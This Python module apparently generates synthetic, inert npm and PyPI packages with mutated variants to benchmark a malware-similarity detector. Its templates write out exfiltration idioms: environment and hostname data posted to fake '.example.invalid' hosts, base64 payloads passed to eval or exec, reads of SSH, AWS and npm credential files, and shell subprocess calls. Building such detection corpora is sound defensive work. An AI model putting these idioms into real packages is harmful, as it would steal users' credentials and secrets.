"""Generated corpora of inert, malware-like npm and PyPI packages for the similar relation:
families of variants of seed packages (renamed, reordered, junk inserted, other payload strings,
minified, a function added or removed, a version bump, an exact copy) among unrelated packages
of the same style, some sharing boilerplate (vendored libraries, tiny re-export files, templated
setup.py files, a copied helper). Shared by evals/similar.py and benchmarks/similar.py.

The code is text only: it would decode base64 and eval it, read the environment and post it to
made-up `.invalid` hosts; it is never written to disk as a package, installed or run.
"""

from __future__ import annotations

import hashlib
import math
import random
import re
import sys
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "src"))
from malgraph.analysis.tokens import normalised_tokens
from malgraph.core.code import token_digest
from malgraph.core.languages import language_of
from malgraph.core.relations import CodeItem

WORDS = """
access account agent api app archive auth backup batch bridge buffer build cache call cert
channel check chunk client cloud code collect config connect context cookie core count cred
cron data debug decode device dir domain drop dump encode entry env event exec export fetch
field file filter flag format frame gate handle hash header helper home host hook index info
init input item job key layer link list load local lock log loop main map meta mode module
monitor name net node note option order output pack page param parse patch path payload peer
ping pipe pool port post proc profile proxy push query queue read record relay remote report
request resolve result route run scan secret send server session setup shell signal sink slot
source stage state store stream sync system table target task temp token trace track update
upload user util value vault view wallet watch worker write zone
""".split()  # noqa: SIM905
JS_MODULES = ("fs", "os", "path", "https", "http", "child_process", "crypto", "dns", "zlib", "net")
PY_MODULES = (
    "os",
    "sys",
    "json",
    "socket",
    "subprocess",
    "base64",
    "requests",
    "shutil",
    "getpass",
    "platform",
    "urllib.request",
    "zlib",
    "tempfile",
    "threading",
)


def _b64(rng: random.Random, lo: int = 16, hi: int = 300) -> str:
    import base64

    return base64.b64encode(rng.randbytes(rng.randint(lo, hi))).decode()


class _Gen:
    """Random code in one language: names, strings, expressions, statements, functions."""

    def __init__(self, rng: random.Random, language: str) -> None:
        self.r, self.language = rng, language
        self.js = language == "javascript"

    def name(self) -> str:
        parts = [self.r.choice(WORDS) for _ in range(self.r.choice((1, 2, 2, 3)))]
        if self.js:
            return parts[0] + "".join(p.title() for p in parts[1:])
        return "_".join(parts)

    def url(self) -> str:
        r = self.r
        return f"https://{r.choice(WORDS)}-{r.choice(WORDS)}.example.invalid/{r.choice(WORDS)}"

    def string(self) -> str:
        r = self.r
        kind = r.random()
        if kind < 0.2:
            value = self.url()
        elif kind < 0.3:
            value = _b64(r, 8, 60)
        elif kind < 0.4:
            value = r.choice(
                (
                    "~/.npmrc",
                    "~/.ssh/id_rsa",
                    "~/.aws/credentials",
                    "/etc/passwd",
                    ".env",
                    "~/.gitconfig",
                    "~/.bash_history",
                )
            )
        else:
            value = " ".join(r.choice(WORDS) for _ in range(r.randint(1, 3)))
        return f"'{value}'"

    def number(self) -> str:
        return str(self.r.choice((0, 1, 2, 8, 16, 64, 256, 1000, 3000, self.r.randint(0, 99999))))

    def expr(self, depth: int = 0) -> str:
        r = self.r
        e: Callable[[], str] = lambda: self.expr(depth + 1)  # noqa: E731
        if depth > 2:
            return r.choice((self.name, self.name, self.string, self.number))()
        x = r.random()
        if x < 0.18:
            return self.name()
        if x < 0.28:
            return self.string()
        if x < 0.33:
            return self.number()
        if x < 0.43:
            return f"{self.name()}.{self.name()}"
        if x < 0.55:
            args = ", ".join(e() for _ in range(r.randint(0, 3)))
            return f"{self.name()}({args})"
        if x < 0.62:
            args = ", ".join(e() for _ in range(r.randint(0, 2)))
            return f"{self.name()}.{self.name()}({args})"
        if x < 0.80:
            return self.api(e)
        if x < 0.88:
            ops = (
                ("+", "-", "*", "===", "!==", "&&", "||", "<", ">")
                if self.js
                else ("+", "-", "*", "==", "!=", "and", "or", "<", ">", "in")
            )
            return f"{e()} {r.choice(ops)} {e()}"
        if x < 0.94:
            items = ", ".join(f"{self.key()}: {e()}" for _ in range(r.randint(1, 4)))
            return "{ " + items + " }" if self.js else "{" + items + "}"
        items = ", ".join(e() for _ in range(r.randint(0, 4)))
        return f"[{items}]"

    def key(self) -> str:
        return self.name() if self.js else f"'{self.name()}'"

    def api(self, e: Callable[[], str]) -> str:
        r = self.r
        if self.js:
            t = r.choice(
                (
                    "Buffer.from({e}, 'base64').toString('utf8')",
                    "JSON.stringify({e})",
                    "JSON.parse({e})",
                    "process.env[{e}]",
                    "os.hostname()",
                    "os.userInfo().username",
                    "require({s})",
                    "fs.readFileSync({e}, 'utf8')",
                    "path.join({e}, {e})",
                    "{e}.split({s})",
                    "{e}.map(({n}) => {e})",
                    "Object.keys({e})",
                    "{e}.toString('hex')",
                    "crypto.createHash('md5').update({e}).digest('hex')",
                    "fs.existsSync({e})",
                    "path.join(os.homedir(), {s})",
                    "String.fromCharCode({e})",
                    "{e}.replace({s}, {s})",
                    "new Promise(({n}) => setTimeout({n}, {e}))",
                    "Array.from({e}).reverse().join('')",
                    "await fetch({e})",
                )
            )
        else:
            t = r.choice(
                (
                    "base64.b64decode({e}).decode()",
                    "json.dumps({e})",
                    "json.loads({e})",
                    "os.environ.get({s})",
                    "socket.gethostname()",
                    "getpass.getuser()",
                    "open({e}).read()",
                    "os.path.join({e}, {e})",
                    "{e}.split({s})",
                    "[{n} for {n} in {e} if {e}]",
                    "list({e}.keys())",
                    "{e}.hex()",
                    "hashlib.md5({e}).hexdigest()",
                    "os.path.exists({e})",
                    "os.path.expanduser({s})",
                    "''.join(chr({n}) for {n} in {e})",
                    "{e}.replace({s}, {s})",
                    "platform.system()",
                    "str({e})",
                    "len({e})",
                    "zlib.decompress({e})",
                    "subprocess.check_output({e}, shell=True)",
                )
            )
        fill = {"e": e, "s": self.string, "n": self.name}
        return re.sub(r"\{([esn])\}", lambda m: fill[m.group(1)](), t)

    def snippet(self) -> list[str]:
        """A multi-line malware-like idiom, with fresh names and strings."""
        r, n, s, u = self.r, self.name, self.string, self.url
        if self.js:
            return r.choice(
                (
                    lambda: [
                        f"const {(p := n())} = Buffer.from('{_b64(r)}', 'base64').toString();",
                        f"eval({p});",
                    ],
                    lambda: [
                        f"const {(d := n())} = JSON.stringify({{ host: os.hostname(), "
                        f"user: os.userInfo().username, env: process.env }});",
                        f"const {(q := n())} = https.request({{ hostname: '{u()[8:]}', "
                        f"path: {s()}, method: 'POST' }}, ({n()}) => {{}});",
                        f"{q}.write({d});",
                        f"{q}.end();",
                    ],
                    lambda: [
                        f"child_process.exec({s()}, ({n()}, {(o := n())}) => {{",
                        f"  {n()}.push({o});",
                        "});",
                    ],
                    lambda: [
                        f"const {(f := n())} = path.join(os.homedir(), {s()});",
                        f"if (fs.existsSync({f})) {{",
                        f"  {n()} = fs.readFileSync({f}, 'utf8');",
                        "}",
                    ],
                    lambda: [f"dns.lookup({n()} + '.' + {s()}, ({n()}) => {{}});"],
                    lambda: [
                        f"const {(z := n())} = zlib.inflateSync(Buffer.from({s()}, 'base64'));",
                        f"new Function({z}.toString())();",
                    ],
                )
            )()
        return r.choice(
            (
                lambda: [
                    f"{(p := n())} = base64.b64decode('{_b64(r)}')",
                    f"exec(compile({p}, '<string>', 'exec'))",
                ],
                lambda: [
                    f"{(d := n())} = json.dumps({{'host': socket.gethostname(), "
                    "'user': getpass.getuser(), 'env': dict(os.environ)}})",
                    f"urllib.request.urlopen(urllib.request.Request('{u()}', data={d}.encode()))",
                ],
                lambda: [f"subprocess.Popen({s()}, shell=True, stdout=subprocess.PIPE)"],
                lambda: [
                    f"{(f := n())} = os.path.expanduser({s()})",
                    f"if os.path.exists({f}):",
                    f"    {n()} = open({f}).read()",
                ],
                lambda: [f"requests.post('{u()}', json={{'data': {n()}}}, timeout=5)"],
                lambda: [f"{(z := n())} = zlib.decompress(base64.b64decode({s()}))", f"exec({z})"],
            )
        )()

    def statements(self, depth: int, count: int) -> list[str]:
        lines: list[str] = []
        for _ in range(count):
            lines += self.statement(depth)
        return lines

    def block(self, depth: int) -> list[str]:
        return [
            "  " + x if self.js else "    " + x
            for x in self.statements(depth + 1, self.r.randint(1, 3))
        ]

    def statement(self, depth: int) -> list[str]:
        x = self.r.random() if depth < 3 else self.r.random() * 0.55
        return self._js_statement(x, depth) if self.js else self._py_statement(x, depth)

    def _js_statement(self, x: float, depth: int) -> list[str]:
        """A statement drawn from a ladder of chances: x picks the rung."""
        r, n, e = self.r, self.name, self.expr
        if x < 0.15:
            return [f"{r.choice(('const', 'let', 'var'))} {n()} = {e()};"]
        if x < 0.25:
            return [f"{n()} = {e()};"]
        if x < 0.37:
            return [f"{n()}.{n()}({e()});"]
        if x < 0.45:
            return [f"return {e()};"]
        if x < 0.55:
            return self.snippet()
        if x < 0.67:
            tail = ["} else {", *self.block(depth)] if r.random() < 0.4 else []
            return [f"if ({e()}) {{", *self.block(depth), *tail, "}"]
        if x < 0.75:
            i = n()
            return [f"for (let {i} = 0; {i} < {n()}.length; {i}++) {{", *self.block(depth), "}"]
        if x < 0.82:
            return [f"for (const {n()} of {e()}) {{", *self.block(depth), "}"]
        if x < 0.9:
            return [
                "try {",
                *self.block(depth),
                f"}} catch ({n()}) {{",
                *self.block(depth),
                "}",
            ]
        if x < 0.95:
            return [f"{n()}.on({self.string()}, ({n()}) => {{", *self.block(depth), "});"]
        return [f"while ({e()}) {{", *self.block(depth), "}"]

    def _py_statement(self, x: float, depth: int) -> list[str]:
        """A statement drawn from a ladder of chances: x picks the rung."""
        r, n, e = self.r, self.name, self.expr
        if x < 0.25:
            return [f"{n()} = {e()}"]
        if x < 0.37:
            return [f"{n()}.{n()}({e()})"]
        if x < 0.45:
            return [f"return {e()}"]
        if x < 0.55:
            return self.snippet()
        if x < 0.67:
            tail = ["else:", *self.block(depth)] if r.random() < 0.4 else []
            return [f"if {e()}:", *self.block(depth), *tail]
        if x < 0.8:
            return [f"for {n()} in {e()}:", *self.block(depth)]
        if x < 0.9:
            return ["try:", *self.block(depth), "except Exception:", *self.block(depth)]
        if x < 0.95:
            return [f"with open({e()}) as {n()}:", *self.block(depth)]
        return [f"while {e()}:", *self.block(depth)]

    def function(self) -> str:
        r, n = self.r, self.name
        params = ", ".join(n() for _ in range(r.randint(0, 3)))
        body = self.block(0) + self.block(0) + (self.block(0) if r.random() < 0.5 else [])
        if self.js:
            head = r.choice(
                (
                    f"function {n()}({params}) {{",
                    f"async function {n()}({params}) {{",
                    f"const {n()} = ({params}) => {{",
                    f"module.exports.{n()} = function ({params}) {{",
                )
            )
            return "\n".join([head, *body, "}"]) + "\n"
        head = f"def {n()}({params}):"
        doc = [f'    """{" ".join(r.choice(WORDS) for _ in range(5))}."""'] * (r.random() < 0.3)
        return "\n".join([head, *doc, *body]) + "\n"

    def comment(self) -> str:
        words = " ".join(self.r.choice(WORDS) for _ in range(self.r.randint(2, 9)))
        return f"// {words}" if self.js else f"# {words}"


@dataclass
class Module:
    """A code file kept as parts, so variants can reorder, add and remove functions."""

    language: str
    header: list[str]
    functions: list[str]
    footer: list[str]

    def text(self) -> str:
        return (
            "\n".join(self.header)
            + "\n\n"
            + "\n".join(self.functions)
            + "\n"
            + "\n".join(self.footer)
            + "\n"
        )

    def copy(self) -> Module:
        return Module(self.language, list(self.header), list(self.functions), list(self.footer))


def module(rng: random.Random, language: str, size: int) -> Module:
    g = _Gen(rng, language)
    mods = rng.sample(JS_MODULES if g.js else PY_MODULES, rng.randint(2, 6))
    if g.js:
        header = [f"const {m} = require('{m}');" for m in mods]
    else:
        header = [f"import {m}" for m in mods]
    functions: list[str] = []
    while sum(map(len, functions)) < size:
        functions.append(g.function())
    if g.js:
        footer = [f"module.exports = {{ {g.name()}, {g.name()} }};"]
    else:
        footer = ["if __name__ == '__main__':", f"    {g.name()}()"]
    return Module(language, header, functions, footer)


@dataclass
class Package:
    """A package's files: code as Modules (or fixed text), the rest as text."""

    name: str
    version: str
    language: str
    files: dict[str, Module | str] = field(default_factory=dict)

    def texts(self) -> dict[str, str]:
        return {p: f.text() if isinstance(f, Module) else f for p, f in self.files.items()}

    def copy(self) -> Package:
        files = {p: f.copy() if isinstance(f, Module) else f for p, f in self.files.items()}
        return Package(self.name, self.version, self.language, files)


# Boilerplate shared by unrelated packages: vendored libraries (identical bytes under
# node_modules/), tiny re-export files (identical, < 30 tokens), setup.py templates (identical
# once normalised), and helpers copied into the main file with other names.
_SETUP_TEMPLATES = (
    "from setuptools import setup, find_packages\n\nsetup(\n    name='{n}',\n    version='{v}',\n"
    "    description='{d}',\n    packages=find_packages(),\n)\n",
    "from setuptools import setup\n\nsetup(\n    name='{n}',\n    version='{v}',\n"
    "    author='{d}',\n    author_email='{d}@example.invalid',\n    description='{d}',\n"
    "    py_modules=['{n}'],\n    install_requires=['requests'],\n    classifiers=[\n"
    "        'Programming Language :: Python :: 3',\n"
    "        'Operating System :: OS Independent',\n"
    "    ],\n)\n",
    "import setuptools\n\nwith open('README.md', 'r') as fh:\n    long_description = fh.read()\n\n"
    "setuptools.setup(\n    name='{n}',\n    version='{v}',\n    author='{d}',\n"
    "    description='{d}',\n    long_description=long_description,\n"
    "    long_description_content_type='text/markdown',\n    url='https://{d}.example.invalid',\n"
    "    packages=setuptools.find_packages(),\n    python_requires='>=3.6',\n)\n",
)


@dataclass(frozen=True)
class Boilerplate:
    vendored: tuple[tuple[str, str], ...]  # (directory name, text) of JS libraries
    helpers_js: tuple[Module, ...]
    helpers_py: tuple[Module, ...]


def boilerplate(seed: int = 99) -> Boilerplate:
    rng = random.Random(seed)
    vendored = tuple(
        (
            f"{rng.choice(WORDS)}-{rng.choice(WORDS)}",
            module(rng, "javascript", rng.randint(4000, 30000)).text(),
        )
        for _ in range(3)
    )
    helpers_js = tuple(module(rng, "javascript", rng.randint(300, 900)) for _ in range(4))
    helpers_py = tuple(module(rng, "python", rng.randint(300, 900)) for _ in range(4))
    return Boilerplate(vendored, helpers_js, helpers_py)


def _size(rng: random.Random, lo: int = 1000, hi: int = 50000) -> int:
    """Log-uniform code size: most malicious packages are small, a few are large."""
    return int(math.exp(rng.uniform(math.log(lo), math.log(hi))))


def package(rng: random.Random, bp: Boilerplate, language: str | None = None) -> Package:
    """One independent package of 1-50 KB of code, with boilerplate now and then."""
    language = language or rng.choice(("javascript", "python"))
    g = _Gen(rng, language)
    name = g.name().replace("_", "-").lower()
    version = f"{rng.randint(0, 3)}.{rng.randint(0, 12)}.{rng.randint(0, 20)}"
    size = _size(rng)
    pkg = Package(name, version, language)
    main = module(rng, language, size if size < 8000 else size * 2 // 3)
    helpers = bp.helpers_js if language == "javascript" else bp.helpers_py
    if rng.random() < 0.3:  # a copied helper, renamed, when it is under a quarter of the code
        helper = rng.choice(helpers)
        if 4 * len(helper.text()) < size:
            at = rng.randrange(len(main.functions) + 1)
            main.functions[at:at] = [rename(h, rng, main.language) for h in helper.functions]
    if language == "javascript":
        pkg.files["package/package.json"] = f'{{"name": "{name}", "version": "{version}"}}\n'
        pkg.files["package/index.js"] = main
        if size >= 8000:
            pkg.files[f"package/lib/{g.name()}.js"] = module(rng, language, size // 3)
        if rng.random() < 0.25:
            pkg.files["package/lib/index.js"] = "module.exports = require('../index.js');\n"
        if rng.random() < 0.15:
            lib, text = rng.choice(bp.vendored)
            pkg.files[f"package/node_modules/{lib}/index.js"] = text
    else:
        root = f"{name}-{version}"
        setup = rng.choice(_SETUP_TEMPLATES).format(n=name, v=version, d=g.name())
        pkg.files[f"{root}/setup.py"] = setup
        pkg.files[f"{root}/PKG-INFO"] = f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n"
        pkg.files[f"{root}/{name}/__init__.py"] = (
            "from .core import *\n" if rng.random() < 0.5 else ""
        )
        pkg.files[f"{root}/{name}/core.py"] = main
        if size >= 8000:
            pkg.files[f"{root}/{name}/{g.name()}.py"] = module(rng, language, size // 3)
    return pkg


# Mutations: structural ones edit Modules; textual ones edit the rendered code of every file.
_IDENT = re.compile(r"(?<![\w.'$])([A-Za-z_][A-Za-z0-9_]*)\b")
_WORDSET = frozenset(WORDS)


def rename(text: str, rng: random.Random, language: str, short: bool = False) -> str:
    """Renames every generated identifier (made of WORDS, and normalised to 'I': not an API
    name the tokens keep) consistently."""
    mapping: dict[str, str] = {}

    def fresh(m: re.Match[str]) -> str:
        word = m.group(1)
        if word not in mapping:
            parts = set(re.split(r"_|(?=[A-Z])", word.lower()))
            if not parts <= _WORDSET or normalised_tokens(word, language) != ["I"]:
                mapping[word] = word
            elif short:
                i = len(mapping)
                mapping[word] = "_" + "abcdefghijklmnopqrstuvwxyz"[i % 26] + str(i // 26 or "")
            else:
                mapping[word] = f"{rng.choice(WORDS)}{rng.choice(WORDS).title()}{len(mapping)}"
        return mapping[word]

    return _IDENT.sub(fresh, text)


def restring(text: str, rng: random.Random) -> str:
    """Other payload URLs and strings: every quoted string gets new content."""

    def fresh(m: re.Match[str]) -> str:
        if rng.random() < 0.5:
            return "'https://" + rng.choice(WORDS) + ".example.invalid/" + rng.choice(WORDS) + "'"
        return "'" + rng.choice(WORDS) + rng.choice(WORDS) + "'"

    return re.sub(r"'[^'\n]*'", fresh, text)


def minify(text: str, rng: random.Random) -> str:
    """JS minified as a bundler would: comments and layout gone, names shortened."""
    lines = [x.strip() for x in text.splitlines() if not x.strip().startswith("//")]
    text = rename("".join(lines), rng, "javascript", short=True)
    return re.sub(r" ?([=+\-*<>{}(),:?&|!]+) ?", r"\1", text)


def junk(mod: Module, rng: random.Random, fraction: float) -> None:
    """Inserts unrelated functions (about `fraction` of the size) and comment lines."""
    g = _Gen(rng, mod.language)
    target = fraction * sum(map(len, mod.functions))
    added = 0
    while added < target:
        f = g.function()
        mod.functions.insert(rng.randrange(len(mod.functions) + 1), f)
        added += len(f)
    for _ in range(rng.randint(1, 10)):
        mod.functions.insert(rng.randrange(len(mod.functions) + 1), g.comment())


def reorder(mod: Module, rng: random.Random) -> None:
    rng.shuffle(mod.functions)


def add_function(mod: Module, rng: random.Random) -> None:
    mod.functions.insert(rng.randrange(len(mod.functions) + 1), _Gen(rng, mod.language).function())


def remove_function(mod: Module, rng: random.Random) -> None:
    if len(mod.functions) > 1:
        del mod.functions[rng.randrange(len(mod.functions))]


STRUCTURAL = ("reorder", "junk", "add-function", "remove-function")
TEXTUAL = ("rename", "restring", "minify")


def _restructure(main: Module, done: tuple[str, ...], rng: random.Random) -> None:
    """Apply the structural mutations chosen, in their order."""
    for m in done:
        if m == "reorder":
            reorder(main, rng)
        elif m == "junk":
            junk(main, rng, rng.uniform(0.05, 0.3))
        elif m == "add-function":
            add_function(main, rng)
        elif m == "remove-function":
            remove_function(main, rng)


def variant(seed: Package, rng: random.Random) -> tuple[Package, tuple[str, ...]]:
    """A variant of `seed` with 1-3 mutations; returns it and the mutations' names."""
    pkg = seed.copy()
    if rng.random() < 0.12:
        return pkg, ("copy",)
    choices = [*STRUCTURAL, "rename", "restring", "version-bump"]
    if pkg.language == "javascript":
        choices.append("minify")
    done = tuple(sorted(rng.sample(choices, rng.randint(1, 3))))
    mods = [f for f in pkg.files.values() if isinstance(f, Module)]
    main = mods[0]
    _restructure(main, done, rng)
    texts = pkg.texts()
    if "version-bump" in done:
        pkg.version += ".1"
    for path, text in list(texts.items()):
        if language_of(path) is None or "node_modules/" in path:
            if "version-bump" in done and ("package.json" in path or "PKG-INFO" in path):
                texts[path] = text.replace(seed.version, pkg.version)
            continue
        if "version-bump" in done and path.endswith("setup.py"):
            text = text.replace(seed.version, pkg.version)
        if "rename" in done:
            text = rename(text, rng, pkg.language)
        if "restring" in done:
            text = restring(text, rng)
        if "minify" in done and path.endswith(".js"):
            text = minify(text, rng)
        texts[path] = text
    pkg.files = dict(texts)
    return pkg, done


def code_item(key: int, files: dict[str, str]) -> CodeItem:
    """What static analysis would record for these files (as analyze_members does): files in
    path order, normalised token streams of code files; the archive digest stands for the
    archive's bytes."""
    archive = hashlib.sha256()
    facts, streams = [], []
    for path in sorted(files):
        data = files[path].encode()
        archive.update(path.encode() + b"\x00" + data + b"\x00")
        digest = hashlib.sha256(data).hexdigest()
        language = language_of(path)
        if language is None:
            facts.append((path, digest, None, 0))
            continue
        tokens = normalised_tokens(files[path], language)
        if tokens:
            streams.append(" ".join(tokens))
        facts.append((path, digest, token_digest(tokens), len(tokens)))
    return CodeItem(key, archive.hexdigest(), tuple(facts), " ".join(streams))


@dataclass(frozen=True)
class Sample:
    key: int
    family: int  # true family; unrelated packages each have their own
    mutations: tuple[str, ...]  # () for seeds and unrelated packages
    item: CodeItem


def corpus(
    families: int, unrelated: int, seed: int = 1, sizes: tuple[int, int] = (2, 12)
) -> Iterator[Sample]:
    """`families` seed packages with a few variants each, and `unrelated` packages, shuffled
    (keys are positions in the shuffled order)."""
    rng = random.Random(seed)
    bp = boilerplate()
    made: list[tuple[int, tuple[str, ...], dict[str, str]]] = []
    for fam in range(families):
        s = package(rng, bp)
        made.append((fam, (), s.texts()))
        count = rng.randint(*sizes) if rng.random() < 0.9 else rng.randint(20, 40)
        for _ in range(count - 1):
            v, done = variant(s, rng)
            made.append((fam, done, v.texts()))
    for i in range(unrelated):
        made.append((families + i, (), package(rng, bp).texts()))
    rng.shuffle(made)
    for key, (fam, done, texts) in enumerate(made):
        yield Sample(key, fam, done, code_item(key, texts))
